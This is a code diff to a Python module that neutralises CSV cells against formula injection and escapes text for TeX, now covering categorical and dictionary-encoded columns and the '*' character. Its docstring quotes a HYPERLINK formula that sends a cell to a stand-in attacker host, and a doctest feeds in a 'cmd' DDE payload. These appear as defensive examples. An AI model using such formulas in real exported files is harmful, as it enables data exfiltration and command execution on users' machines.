@@ -8,8 +8,9 @@ text into actions:
   ``=HYPERLINK("http://evil.example/?"&A1, "x")`` sends a neighbouring cell away. OWASP's
   advice, followed here: put a single quote before such a cell, which spreadsheets show as text.
 - TeX reads ``\\ & % $ # _ { } ~ ^`` as commands, ``[`` right after ``\\\\`` or a command as
-  an optional argument, and a non-ASCII character as whatever the input encoding makes of it
-  (pdflatex with an old setup stops; ``U+202E`` would silently reverse the text after it).
+  an optional argument (and ``*`` after ``\\\\`` as its star), and a non-ASCII character as
+  whatever the input encoding makes of it (pdflatex with an old setup stops; ``U+202E`` would
+  silently reverse the text after it).
 
 :func:`csv_cell` and :func:`tex_text` make a cell inert in each. Pure string functions; every
 CSV the project writes (``publish``, ``Store.export``, the app's download buttons) and every
@@ -65,8 +66,9 @@ def csv_uncell(value: object) -> object:
 
 
 def csv_frame(frame: Any) -> Any:
-    """A copy of a pandas DataFrame with :func:`csv_cell` applied to every text cell and to the
-    column names (numbers stay numbers, so ``-0.5`` is not quoted).
+    """A copy of a pandas DataFrame with :func:`csv_cell` applied to every text cell (object,
+    string and categorical columns) and to the column names (numbers stay numbers, so ``-0.5``
+    is not quoted).
 
     >>> import pandas as pd
     >>> csv_frame(pd.DataFrame({"teacher": ["+cmd|' /C calc'!A0", "m"], "x": [-1, 2]}))
@@ -74,16 +76,24 @@ def csv_frame(frame: Any) -> Any:
     0  '+cmd|' /C calc'!A0 -1
     1                    m  2
     """
+    import pandas as pd
+
     out = frame.copy()
     for column in out.columns:
-        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
-            out[column] = out[column].map(csv_cell).astype(out[column].dtype)
+        values = out[column]
+        if isinstance(values.dtype, pd.CategoricalDtype):
+            # Categories are text too (the app loads ids and names as categoricals); the
+            # mapping is one to one, so no two categories merge.
+            out[column] = values.cat.rename_categories(csv_cell)
+        elif values.dtype == object or str(values.dtype) in ("string", "str"):
+            out[column] = values.map(csv_cell).astype(values.dtype)
     out.columns = [csv_cell(c) for c in out.columns]
     return out
 
 
 def csv_arrow(table: Any) -> Any:
-    """A pyarrow Table with :func:`csv_cell` applied to every string column (nulls kept).
+    """A pyarrow Table with :func:`csv_cell` applied to every string column, dictionary-encoded
+    ones included (nulls kept).
 
     >>> import pyarrow as pa
     >>> csv_arrow(pa.table({"a": ["=1", None, "b"], "n": [-1, 0, 1]})).column("a").to_pylist()
@@ -92,14 +102,27 @@ def csv_arrow(table: Any) -> Any:
     import pyarrow as pa
 
     for i, field in enumerate(table.schema):
-        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
-            values = [csv_cell(v) for v in table.column(i).to_pylist()]
-            table = table.set_column(i, field, pa.array(values, type=field.type))
+        kind = field.type
+        if pa.types.is_dictionary(kind) and _is_text(kind.value_type):
+            # Dictionary-encoded text is written as its values: quote those.
+            kind = kind.value_type
+            field = pa.field(field.name, kind, field.nullable)
+        elif not _is_text(kind):
+            continue
+        values = [csv_cell(v) for v in table.column(i).to_pylist()]
+        table = table.set_column(i, field, pa.array(values, type=kind))
     return table
 
 
-# TeX's special characters, each as a command that prints it. ``[`` and ``]`` are braced so that
-# a cell starting with ``[`` after ``\\`` (a new row) is never an optional argument.
+def _is_text(kind: Any) -> bool:
+    import pyarrow as pa
+
+    return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind))
+
+
+# TeX's special characters, each as a command that prints it. ``[``, ``]`` and ``*`` are braced
+# so that a cell starting with one after ``\\`` (a new row) is never its optional argument or
+# its star (LaTeX looks for both past spaces and the line end).
 _TEX_SPECIAL = {
     "\\": r"\textbackslash{}",
     "{": r"\{",
@@ -117,6 +140,7 @@ _TEX_SPECIAL = {
     '"': r"\textquotedbl{}",
     "[": "{[}",
     "]": "{]}",
+    "*": "{*}",
 }
 # Combining accents with a plain-TeX accent command (after NFD decomposition).
 _TEX_ACCENTS = {
@@ -163,7 +187,8 @@ def tex_text(text: object) -> str:
     letters as accent commands, anything else as its code point.
 
     Formula, per character after NFD decomposition: an ASCII special (``\ { } $ & # % _ ^ ~ <
-    > | "``) → the command that prints it; ``[`` → ``{[}`` and ``]`` → ``{]}``; a letter
+    > | "``) → the command that prints it; ``[`` → ``{[}``, ``]`` → ``{]}`` and ``*`` → ``{*}``
+    (so ``\\`` before a cell never reads its first character as an argument); a letter
     followed by combining accents → ``\'{e}``-style accent commands; ß, æ, ø, œ, ł, dashes and
     curly quotes → their TeX spelling; other ASCII printable characters as they are; anything
     else (bidi controls such as U+202E, control characters, other scripts, emoji) →
